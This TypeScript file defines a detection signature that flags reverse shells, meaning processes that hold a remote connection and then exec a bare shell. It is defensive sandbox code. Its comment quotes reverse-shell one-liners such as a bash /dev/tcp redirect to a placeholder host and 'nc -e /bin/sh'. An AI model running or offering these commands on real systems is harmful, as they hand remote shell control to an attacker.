import type { BehaviorEvent } from '../../report/events.js';
import { isRemoteInet } from '../helpers/addresses.js';
import { isBareShell } from '../helpers/command-line.js';
import { Signature, type EventOf, type SignatureContext, type SignatureInfo } from '../signature.js';

type Kind = 'net.connect' | 'process.fork' | 'process.exec';

// connect(2) on a non-blocking socket answers EINPROGRESS and still connects.
const EINPROGRESS = -115;

/**
 * A shell driven over the network: a process connects to another machine and then becomes (or starts) a
 * shell with no script to run, which therefore reads its commands from the inherited socket. This is what
 * `bash -i >& /dev/tcp/h/p 0>&1`, `nc -e /bin/sh`, and the Python/Perl dup2-then-exec one-liners do,
 * whatever their wording. The log has no dup2, so an inherited connection stands for "its fds are a socket".
 */
export class ReverseShell extends Signature<Kind> {
  readonly info: SignatureInfo = {
    name: 'reverse_shell',
    description: 'Starts a shell whose input and output are a network connection (reverse shell)',
    severity: 5,
    categories: ['backdoor'],
    ttp: ['T1059.004'],
  };
  override readonly kinds: readonly Kind[] = ['net.connect', 'process.fork', 'process.exec'];

  /** The remote connection each process holds (its own or inherited). */
  readonly #connections = new Map<number, BehaviorEvent>();

  override onEvent(event: EventOf<Kind>, ctx: SignatureContext): void {
    switch (event.kind) {
      case 'net.connect': {
        if (!isRemoteInet(event.family, event.address) || (event.ret < 0 && event.ret !== EINPROGRESS)) break;
        this.#connections.set(event.pid, event);
        const process = ctx.processes.get(event.pid);
        if (process && isBareShell(process.path, process.argv)) this.markEvent(event, ctx);
        break;
      }
      case 'process.fork': {
        const inherited = this.#connections.get(event.pid);
        if (inherited) this.#connections.set(event.child, inherited);
        break;
      }
      case 'process.exec': {
        const connection = this.#connections.get(event.pid);
        if (connection && event.ret >= 0 && isBareShell(event.path, event.argv)) {
          this.markEvent(connection, ctx);
          this.markEvent(event, ctx);
        }
        break;
      }
    }
  }
}
